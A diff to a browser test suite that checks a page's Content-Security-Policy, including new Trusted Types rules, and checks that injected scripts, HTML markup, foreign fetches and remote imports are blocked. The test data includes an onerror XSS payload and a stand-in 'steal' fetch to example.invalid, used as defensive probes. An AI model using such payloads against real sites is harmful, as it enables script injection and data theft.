@@ -200,9 +200,12 @@ test("the Content-Security-Policy is in the built page and only allows the page'
   const { createHash } = await import("node:crypto");
   const hashes = inline.map((m) => `'sha256-${createHash("sha256").update(m[2]).digest("base64")}'`);
   assert.deepEqual(csp["script-src"], ["'self'", "'wasm-unsafe-eval'", ...hashes]);
+  // Trusted Types: strings never reach an HTML-parsing sink, and no policy may be made.
+  assert.deepEqual(csp["require-trusted-types-for"], ["'script'"]);
+  assert.deepEqual(csp["trusted-types"], ["'none'"]);
   // No wildcard, no other host or scheme, no eval.
   for (const value of Object.values(csp).flat()) {
-    assert.match(value, /^'(self|none|wasm-unsafe-eval|unsafe-inline|sha256-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9]+)'$|^data:$/, value);
+    assert.match(value, /^'(self|none|script|wasm-unsafe-eval|unsafe-inline|sha256-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9]+)'$|^data:$/, value);
   }
   assert.ok(!csp["script-src"].includes("'unsafe-inline'"));
   assert.doesNotMatch(html, /<[^>]*\son[a-z]+\s*=/i, "no inline event handler in the page");
@@ -213,15 +216,37 @@ test("the policy is enforced: inline script, foreign fetch and foreign images ar
   await page.goto(server.url);
   await waitEditable(page);
   const result = await page.evaluate(async () => {
+    // Setting a script's text from a string already throws (Trusted Types); a text node
+    // child gets past that and is then refused by script-src (no matching hash).
     const s = document.createElement("script");
-    s.textContent = "window.__inlineRan = 1";
+    let scriptText = "set";
+    try {
+      s.textContent = "window.__inlineRan = 1";
+    } catch (e) {
+      scriptText = e.name;
+      s.append(document.createTextNode("window.__inlineRan = 1"));
+    }
     document.body.append(s);
+    // Markup from a string never reaches the parser (Trusted Types).
+    let markup = "parsed";
+    try {
+      document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.__pwned=1">'); // html-sink-ok: the test of the policy
+    } catch (e) {
+      markup = e.name;
+    }
     let fetched = "no";
     try {
       await fetch("http://example.invalid/steal?x=1");
       fetched = "yes";
     } catch {
       fetched = "refused";
+    }
+    // A script from anywhere else is refused by script-src (dynamic import is no TT sink).
+    let imported = "yes";
+    try {
+      await import("http://example.invalid/module.js");
+    } catch {
+      imported = "refused";
     }
     const img = new Image();
     img.src = "http://example.invalid/pixel.png";
@@ -232,12 +257,16 @@ test("the policy is enforced: inline script, foreign fetch and foreign images ar
     img.remove();
     style.remove();
     s.remove();
-    return { ran: window.__inlineRan, fetched, v: window.__violations };
+    return { ran: window.__inlineRan, fetched, imported, scriptText, markup, imgs: document.querySelectorAll("img[src]").length, v: window.__violations };
   });
   assert.equal(result.ran, undefined, "an inline script ran");
+  assert.equal(result.scriptText, "TypeError");
+  assert.equal(result.markup, "TypeError");
+  assert.equal(result.imgs, 0);
   assert.equal(result.fetched, "refused");
+  assert.equal(result.imported, "refused");
   const directives = result.v.map((v) => v.split(" ")[0]);
-  for (const d of ["script-src-elem", "connect-src", "img-src", "style-src-elem"]) {
+  for (const d of ["script-src-elem", "connect-src", "img-src", "style-src-elem", "require-trusted-types-for"]) {
     assert.ok(directives.includes(d), `no ${d} violation in ${JSON.stringify(result.v)}`);
   }
   await context.close();
